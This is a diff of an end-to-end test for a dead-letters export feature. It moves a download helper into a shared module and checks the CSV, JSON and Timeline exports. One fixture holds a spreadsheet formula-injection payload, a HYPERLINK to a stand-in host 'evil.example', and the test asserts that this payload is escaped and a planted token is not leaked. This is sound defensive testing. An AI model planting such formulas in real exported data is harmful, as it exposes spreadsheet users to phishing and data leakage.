@@ -4,6 +4,7 @@ import { type Product, QUIET_ENGINE, startProduct } from "@/scripts/testing/prod
 import { until } from "@/scripts/testing/until";
 import { untilArchived } from "./pages/archive";
 import { setUp } from "./pages/desk";
+import { fileOf } from "./pages/file-of";
 
 const TOKEN = "tok-planted-0123456789";
 const FORMULA = '=HYPERLINK("http://evil.example/?x";"Click")';
@@ -165,25 +166,16 @@ test("a view is kept as a file: what it says is the database's, a formula in it 
   page,
 }) => {
   await open(page, "/dead-letters?state=all&view=list");
-  const fileOf = async (name: string) => {
-    const [download] = await Promise.all([
-      page.waitForEvent("download"),
-      page.getByRole("link", { name, exact: true }).click(),
-    ]);
-    const chunks: Buffer[] = [];
-    for await (const chunk of await download.createReadStream()) chunks.push(chunk as Buffer);
-    return { name: download.suggestedFilename(), text: Buffer.concat(chunks).toString() };
-  };
   const { rows: kept } = await product
     .pool("backstop_own")
     .query("select letter_id as id from backstop.dead_letters order by died_at desc, letter_id desc");
-  const csv = await fileOf("CSV");
+  const csv = await fileOf(page, "CSV");
   expect(csv.name).toMatch(/^dead-letters-\d{8}-\d{6}\.csv$/);
   expect(csv.text.trimEnd().split("\r\n")).toHaveLength(kept.length + 1);
   expect(csv.text).toContain(`"'=HYPERLINK(`);
-  const json = await fileOf("JSON");
+  const json = await fileOf(page, "JSON");
   expect(JSON.parse(json.text).map((each: { letter_id: string }) => each.letter_id)).toEqual(kept.map(({ id }) => id));
-  const timeline = await fileOf("Timeline");
+  const timeline = await fileOf(page, "Timeline");
   expect(timeline.text).toContain(`${kept.length} letters died of`);
   expect(timeline.text).toMatch(/^- \*\*\d\d:\d\d:\d\d\*\* \*\*Maya Okafor\*\* noted: Somebody plays with formulas/m);
   expect(csv.text + json.text + timeline.text).not.toContain(TOKEN);
